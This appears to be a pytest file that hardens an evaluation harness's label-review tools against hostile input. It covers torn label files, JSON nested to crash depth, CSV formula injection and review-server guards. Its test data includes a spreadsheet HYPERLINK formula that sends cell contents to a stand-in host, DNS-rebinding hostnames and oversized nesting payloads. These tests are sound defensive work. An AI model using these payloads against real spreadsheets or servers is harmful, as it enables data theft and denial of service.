"""The review tools under a hostile probe (issue 25): a torn labels file, JSON nested too
deep, spreadsheet formulas in an export, and the review server's guards (a token that is not
ASCII, idle connections, the Host check when bound to all interfaces, IPv6). Each test
reproduced its finding before the fix."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from click.testing import CliRunner

from conftest import another_run, run_cli
from evalharness.cli import cli as cli_group
from evalharness.jsonlimits import MAX_DEPTH
from evalharness.review import labels as L
from evalharness.review.server import App, Pairing, make_server, new_token
from evalharness.review.session import Review

TORN = L.LABELS.with_name(L.LABELS.name + ".torn")
"""Where a torn last line of labels.jsonl is moved (relative to the run folder)."""


@pytest.fixture
def run(shop_sample_run, tmp_path) -> Path:
    """A copy of the 12-case shop sample run that a test may write into."""
    out = tmp_path / "run"
    shutil.copytree(shop_sample_run[0], out)
    return out


def invoke(*args) -> tuple[int, str, str]:
    """The CLI in this process: (exit code, stdout, stderr)."""
    result = CliRunner().invoke(cli_group, [str(a) for a in args])
    return result.exit_code, result.stdout, result.stderr


def a_label(review: Review, value="yes", index: int = 0, who: str = "ana") -> dict:
    """A label (as the page posts it) of the first case's ``index``-th target that takes
    yes/no."""
    case = review.run.results[review.chosen[0]].case.id
    binary = [t for t in review.targets(case) if not t.item]
    t = binary[index]
    return {"case": case, "component": t.component, "metric": t.metric, "item": t.item,
            "label": value, "reviewer": who}


def tear(path: Path, fragment: bytes) -> None:
    """Append ``fragment`` without a newline: a write cut short by a crash or a full disk."""
    with open(path, "ab") as fh:
        fh.write(fragment)


def every_line_is_a_label(path: Path) -> list[L.Label]:
    """The labels of ``path``, asserting it ends with a newline and every line is whole."""
    data = path.read_bytes()
    assert data.endswith(b"\n"), data[-80:]
    return [L.Label.model_validate_json(line) for line in data.splitlines()]


class Client:
    """Real HTTP requests to a review server on 127.0.0.1, the Host header ours to choose."""

    def __init__(self, port: int, token: str) -> None:
        self.port, self.token = port, token

    def request(self, method: str, path: str, body: bytes | None = None,
                headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        """(status, body) of one request on a connection of its own."""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        try:
            conn.request(method, path, body=body, headers=headers or {})
            resp = conn.getresponse()
            return resp.status, resp.read()
        finally:
            conn.close()

    def get(self, path: str, host: str | None = None) -> tuple[int, bytes]:
        """GET ``path`` with the token, and ``host`` as the Host header when given."""
        sep = "&" if "?" in path else "?"
        return self.request("GET", f"{path}{sep}t={self.token}",
                            headers={"Host": host} if host else None)

    def post(self, data) -> tuple[int, bytes]:
        """POST ``data`` (an object, or bytes as they are) to /label as the page does."""
        body = data if isinstance(data, bytes) else json.dumps(data).encode()
        return self.request("POST", "/label", body, {"Content-Type": "application/json",
                                                     "X-Review-Token": self.token})


@contextmanager
def serving(app: App, **options) -> Iterator[tuple[Client, object]]:
    """``app`` served on 127.0.0.1 in a thread; stopped at the end."""
    server = make_server(app, "127.0.0.1", 0, **options)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                              daemon=True)
    thread.start()
    try:
        yield Client(server.server_address[1], app.token), server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


class Served:
    """`evalharness review serve` started as a user starts it; ``log`` is its stderr once it
    has stopped."""

    def __init__(self, proc: subprocess.Popen, url: str) -> None:
        self.proc, self.url, self.log = proc, url, ""
        parts = urlsplit(url)
        self.client = Client(parts.port, parse_qs(parts.query)["t"][0])


@contextmanager
def review_serve(*args: str | Path) -> Iterator[Served]:
    """``evalharness review serve ARGS`` in a subprocess, stopped with Ctrl-C at the end."""
    env = {k: v for k, v in os.environ.items() if k != "EVALHARNESS_LOAD_PLUGINS"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "evalharness.cli", "review", "serve", *map(str, args),
         "--reviewer", "ana"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env=env, stdin=subprocess.DEVNULL)
    served = None
    try:
        proc.stdout.readline()
        opened = proc.stdout.readline()
        if not opened.startswith("open "):
            proc.kill()
            raise AssertionError(f"review serve did not start: {opened}{proc.stderr.read()}")
        served = Served(proc, opened.split()[-1])
        yield served
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=20)
        if served is not None:
            served.log = err


# -- 1. a torn last line of labels.jsonl ---------------------------------------------------------


def test_a_torn_last_line_is_moved_aside_before_the_server_appends(run):
    """A crash mid-append left a fragment; the next label must go on a line of its own, the
    fragment kept in labels.jsonl.torn, the repair said in the answer and the server's log,
    and the page, /labels and `agreement` keep working."""
    review = Review.open(run)
    first, second = a_label(review, "yes", 0), a_label(review, "no", 1)
    L.append(run / L.LABELS, [L.Label(**first)])
    fragment = (f'{{"case": "{first["case"]}", "component": "generator", "metric": "fa'
                ).encode()
    tear(run / L.LABELS, fragment)
    with review_serve(run) as served:
        status, body = served.client.post(second)
        assert status == 200, body
        answer = json.loads(body)
        assert answer["label"] == "no"
        assert any("labels.jsonl.torn" in w and "line 2" in w for w in answer["warnings"])
        status, page = served.client.get("/?r=ana")
        assert status == 200 and b'id="review"' in page
        status, body = served.client.get("/labels?r=ana")
        assert status == 200
        assert sorted(x["label"] for x in json.loads(body)) == ["no", "yes"]
    assert "labels.jsonl.torn" in served.log and "line 2" in served.log, served.log
    assert [lab.label for lab in every_line_is_a_label(run / L.LABELS)] == ["yes", "no"]
    kept = [json.loads(x) for x in (run / TORN).read_text(encoding="utf-8").splitlines()]
    assert len(kept) == 1 and kept[0]["line"] == 2
    assert kept[0]["fragment"].encode("utf-8", "surrogateescape") == fragment
    proc = run_cli("agreement", run, "--no-report", "--resamples", "100")
    assert proc.code == 0, proc
    assert json.loads((run / "review" / "agreement.json").read_text())["labels"] == 2


def test_review_import_after_a_torn_last_line_repairs_it_and_says_so(run, tmp_path):
    review = Review.open(run)
    first, second = a_label(review, "yes", 0), a_label(review, "no", 1)
    L.append(run / L.LABELS, [L.Label(**first)])
    fragment = "{\"case\": \"x\", \"note\": \"café".encode()[:-1]  # cut inside a character
    tear(run / L.LABELS, fragment)
    sheet = tmp_path / "sheet.csv"
    with open(sheet, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, list(second))
        writer.writeheader()
        writer.writerow(second)
    code, out, err = invoke("review", "import", run, sheet)
    assert code == 0, out + err
    assert "labels.jsonl.torn" in err and "line 2" in err
    assert [lab.label for lab in every_line_is_a_label(run / L.LABELS)] == ["yes", "no"]
    kept = json.loads((run / TORN).read_text(encoding="utf-8"))
    assert kept["fragment"].encode("utf-8", "surrogateescape") == fragment
    code, out, err = invoke("review", "import", run, sheet)  # nothing torn any more
    assert code == 0 and "torn" not in err
    assert len((run / TORN).read_text(encoding="utf-8").splitlines()) == 1


def test_a_pairwise_preference_after_a_torn_last_line_goes_on_its_own_line(run, tmp_path):
    other = another_run(run, tmp_path / "other")
    a, b = Review.open(run), Review.open(other)
    ids = list(a.index)[:3]
    app = App(a, new_token(), set(), "ana", Pairing(a, b, new_token(), ids))
    L.append(run / L.PAIRWISE, [L.Label(case=ids[0], component="generator",
                                        metric="preference", label="A", reviewer="ana",
                                        runs=app.pairing.runs)])
    tear(run / L.PAIRWISE, b'{"case": "q')
    with serving(app) as (client, _):
        status, body = client.post({"case": ids[1], "choice": "tie", "reviewer": "ana"})
        assert status == 200, body
        assert any("pairwise.jsonl.torn" in w for w in json.loads(body)["warnings"])
        assert len(json.loads(client.get("/labels?r=ana")[1])) == 2
    assert [lab.label for lab in every_line_is_a_label(run / L.PAIRWISE)] == ["A", "tie"]
    assert (run / L.PAIRWISE.with_name("pairwise.jsonl.torn")).is_file()


def test_a_whole_last_line_without_its_newline_is_kept(run, tmp_path):
    """A hand-edited file that ends without a newline: its last label is whole, so it is kept
    (a newline added), nothing moved aside."""
    review = Review.open(run)
    first, second = a_label(review, "yes", 0), a_label(review, "no", 1)
    (run / L.LABELS).parent.mkdir(exist_ok=True)
    (run / L.LABELS).write_text(L.Label(**first, at="2026-01-01T00:00:00Z").line(),
                                encoding="utf-8")
    sheet = tmp_path / "sheet.jsonl"
    sheet.write_text(json.dumps(second) + "\n", encoding="utf-8")
    code, out, err = invoke("review", "import", run, sheet)
    assert code == 0, out + err
    assert [lab.label for lab in every_line_is_a_label(run / L.LABELS)] == ["yes", "no"]
    assert not (run / TORN).exists()


@pytest.mark.parametrize("fragment", [
    b'{"case": "q1", "component": "generator", "note": "a}',   # ends with a brace
    "{\"case\": \"q1\", \"note\": \"ç".encode()[:-1],              # cut inside a character
], ids=["ends-with-a-brace", "cut-inside-a-character"])
def test_every_reader_tolerates_a_torn_last_line_with_a_warning(run, fragment, capfd):
    review = Review.open(run)
    first = a_label(review, "yes", 0)
    L.append(run / L.LABELS, [L.Label(**first)])
    tear(run / L.LABELS, fragment)
    before = (run / L.LABELS).read_bytes()
    proc = run_cli("agreement", run, "--no-report", "--resamples", "100")
    assert proc.code == 0, proc
    assert "warning" in proc.err and "labels.jsonl" in proc.err and "line 2" in proc.err
    code, out, err = invoke("review", "export", run, "--reviewer", "ana")
    assert code == 0 and "line 2" in err, out + err
    assert [r["label"] for r in csv.DictReader(io.StringIO(out)) if r["label"]] == ["yes"]
    app = App(Review.open(run), new_token(), set(), "ana")
    with serving(app) as (client, _):
        status, page = client.get("/?r=ana")
        assert status == 200 and b"is cut short" in page  # the reviewer sees it too
        status, body = client.get("/labels?r=ana")
        assert status == 200 and [x["label"] for x in json.loads(body)] == ["yes"]
        client.get("/labels?r=ana")
    log = capfd.readouterr().err
    assert log.count("line 2") == 1, log  # said once, not at every request
    assert (run / L.LABELS).read_bytes() == before  # readers never write


def test_a_labels_file_the_server_cannot_use_is_an_answer_naming_it(run):
    """A bad line that is not the last (a file damaged by hand, or by an append before this
    repair existed) and a labels path that cannot be written: an answer that says so, never
    a dropped connection."""
    app = App(Review.open(run, sample=2), new_token(), set(), "ana")
    (run / L.LABELS).parent.mkdir(exist_ok=True)
    (run / L.LABELS).write_text('{"case": "q1", "oops\n', encoding="utf-8")
    with serving(app) as (client, _):
        for path in ("/?r=ana", "/labels?r=ana"):
            status, body = client.get(path)
            assert status == 500 and b"labels.jsonl, line 1: not JSON" in body, body
        (run / L.LABELS).unlink()
        (run / L.LABELS).mkdir()  # nothing can be appended to a folder
        status, body = client.post(a_label(app.review))
        assert status == 500 and "cannot save it" in json.loads(body)["error"], body


# -- 2. JSON nested too deep ---------------------------------------------------------------------


def test_deeply_nested_json_in_an_import_file_is_exit_2_naming_the_line(run, tmp_path):
    review = Review.open(run)
    good = a_label(review)
    sheet = tmp_path / "deep.jsonl"
    deep = '{"case": ' + "[" * 100_000 + "]" * 100_000 + "}"
    sheet.write_text(json.dumps(good) + "\n" + deep + "\n", encoding="utf-8")
    proc = run_cli("review", "import", run, sheet)
    assert proc.code == 2, proc
    assert "deep.jsonl, line 2" in proc.err and f"nested more than {MAX_DEPTH}" in proc.err
    assert "Traceback" not in proc.err
    assert not (run / L.LABELS).exists()
    # the same in the run's own labels file
    (run / L.LABELS).parent.mkdir(exist_ok=True)
    (run / L.LABELS).write_text(deep + "\n", encoding="utf-8")
    code, out, err = invoke("agreement", run, "--no-report")
    assert code == 2 and "labels.jsonl, line 1" in err and "nested more than" in err, out + err


def test_a_deeply_nested_post_body_is_a_400_with_a_json_error(run):
    app = App(Review.open(run, sample=2), new_token(), set(), "ana")
    with serving(app) as (client, _):
        for body in (b"[" * 50_000, b'{"case": ' + b"[" * 30_000 + b"]" * 30_000 + b"}"):
            status, answer = client.post(body)
            assert status == 400, answer
            assert f"nested more than {MAX_DEPTH}" in json.loads(answer)["error"]
        assert client.post(a_label(app.review))[0] == 200  # the server is still up


# -- 3. formulas in an exported spreadsheet ------------------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e-?[0-9]+)?")
"""A score as export writes it: a number, which a spreadsheet reads as a number."""


def test_export_escapes_formula_cells_and_import_round_trips_them(run, tmp_path):
    review = Review.open(run)
    notes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)",
             "\tindented", "\rreturned", "'quoted by me", "''two quotes", "plain"]
    targets = [(r.case.id, t) for r in review.run.results
               for t in review.targets(r.case.id)[:1] if not t.item]
    assert len(targets) >= len(notes)
    labels = [{"case": case, "component": t.component, "metric": t.metric, "item": "",
               "label": "no", "reviewer": "ana", "note": note}
              for (case, t), note in zip(targets, notes, strict=False)]
    labels[0]["correction"] = "=1+1"
    L.append(run / L.LABELS, [L.Label(**x) for x in labels])
    sheet = tmp_path / "review.csv"
    proc = run_cli("review", "export", run, "--reviewer", "ana", "--out", sheet)
    assert proc.code == 0, proc
    text = sheet.read_bytes().decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    by_note = {r["note"] for r in rows if r["note"]}
    assert "'" + notes[0] in by_note and "'''two quotes" in by_note and "plain" in by_note
    # every cell a spreadsheet would take for a formula was prefixed, so none is one now
    (run / L.LABELS).unlink()
    proc = run_cli("review", "import", run, sheet, "--reviewer", "bea")
    assert proc.code == 0, proc
    back = {(lab.case, lab.metric): lab for lab in L.read(run / L.LABELS)}
    for x in labels:
        lab = back[(x["case"], x["metric"])]
        assert lab.note == x["note"], (lab.note, x["note"])
        assert (lab.correction or None) == x.get("correction")
    # a leading quote a person typed themselves (not before a formula character) stays
    typed = tmp_path / "typed.csv"
    first = {k: v for k, v in labels[0].items() if k != "correction"}
    with open(typed, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, list(first))
        writer.writeheader()
        writer.writerow({**first, "note": "'tis fine"})
    assert run_cli("review", "import", run, typed).code == 0
    assert [lab.note for lab in L.latest(L.read(run / L.LABELS))
            if lab.reviewer == "ana"] == ["'tis fine"]


# -- 4. the review server ------------------------------------------------------------------------


def raw(port: int, request: bytes, timeout: float = 5) -> bytes:
    """What the server answers to ``request`` sent as is (b"" when it closes at once)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(request)
        chunks = []
        while True:
            try:
                data = sock.recv(65536)
            except TimeoutError:
                return b"".join(chunks) + b"(no answer, the connection still open)"
            if not data:
                return b"".join(chunks)
            chunks.append(data)
            if b"\r\n\r\n" in b"".join(chunks):
                return b"".join(chunks)


def test_a_token_that_is_not_ascii_is_a_plain_403(run):
    app = App(Review.open(run, sample=2), new_token(), set(), "ana")
    with serving(app) as (client, _):
        host = f"Host: 127.0.0.1:{client.port}\r\n".encode()
        answer = raw(client.port, b"GET /?t=%C3%A9t%C3%A9 HTTP/1.1\r\n" + host + b"\r\n")
        assert answer.startswith(b"HTTP/1.1 403"), answer
        answer = raw(client.port, b"POST /label HTTP/1.1\r\n" + host
                     + "X-Review-Token: été\r\n".encode("latin-1")
                     + b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}")
        assert answer.startswith(b"HTTP/1.1 403"), answer
        assert client.get("/")[0] == 200  # the right token still works


def test_an_idle_connection_is_closed_by_the_server(run):
    app = App(Review.open(run, sample=2), new_token(), set(), "ana")
    with serving(app, request_timeout=0.3) as (client, _):
        assert raw(client.port, b"") == b""  # nothing sent: closed, no thread held
        partial = f"GET /?t={app.token} HTTP/1.1\r\nHost: 127.0.0.1:{client.port}\r\n"
        assert raw(client.port, partial.encode()) == b""  # headers never finished
        assert client.get("/")[0] == 200


def test_bound_to_all_interfaces_the_host_check_accepts_this_machines_names(run):
    """Bound to 0.0.0.0, a browser reaches the page by this machine's name or any of its
    addresses: those pass; any other name (DNS rebinding) is still refused. (The server binds
    127.0.0.1 here, with the Host check of 0.0.0.0.)"""
    from evalharness.review.server import Hosts

    app = App(Review.open(run, sample=2), new_token(), set(), "ana")
    with serving(app) as (client, _):
        port = client.port
        for wildcard in ("0.0.0.0", "::"):
            app.hosts = Hosts.for_bind(wildcard, port)
            for ok in ("localhost", "127.0.0.1", "[::1]", socket.gethostname(),
                       "192.168.1.20", "[fe80::1]", "10.0.0.7"):
                assert client.get("/", f"{ok}:{port}")[0] == 200, ok
            for bad in ("evil.example", "127.0.0.1.evil.example", "localhost.evil.example",
                        f"{socket.gethostname()}.evil.example"):
                assert client.get("/", f"{bad}:{port}")[0] == 403, bad
            assert client.get("/", f"localhost:{port + 1}")[0] == 403  # another port
            assert client.get("/", "localhost")[0] == 403  # the port is part of it
        app.hosts = Hosts.for_bind("192.168.1.20", port)  # a single address: only it
        assert client.get("/", f"192.168.1.20:{port}")[0] == 200
        assert client.get("/", f"10.0.0.7:{port}")[0] == 403


def ipv6_loopback() -> bool:
    """Whether this machine can bind the IPv6 loopback."""
    try:
        with socket.socket(socket.AF_INET6) as sock:
            sock.bind(("::1", 0))
        return True
    except OSError:
        return False


@pytest.mark.skipif(not ipv6_loopback(), reason="this machine has no IPv6 loopback")
def test_review_serve_on_the_ipv6_loopback(run):
    with review_serve(run, "--host", "::1", "--sample", "2") as served:
        assert served.url.startswith("http://[::1]:"), served.url
        port = int(served.url.split("]:")[1].split("/")[0])
        conn = http.client.HTTPConnection("::1", port, timeout=10)
        try:
            conn.request("GET", "/?" + served.url.split("?", 1)[1] + "&r=ana")
            resp = conn.getresponse()
            assert resp.status == 200 and b'id="review"' in resp.read()
        finally:
            conn.close()
    code, out, err = invoke("review", "serve", run, "--host", "192.0.2.1")  # not ours
    assert code == 2 and "192.0.2.1" in err and "--port" not in err, out + err
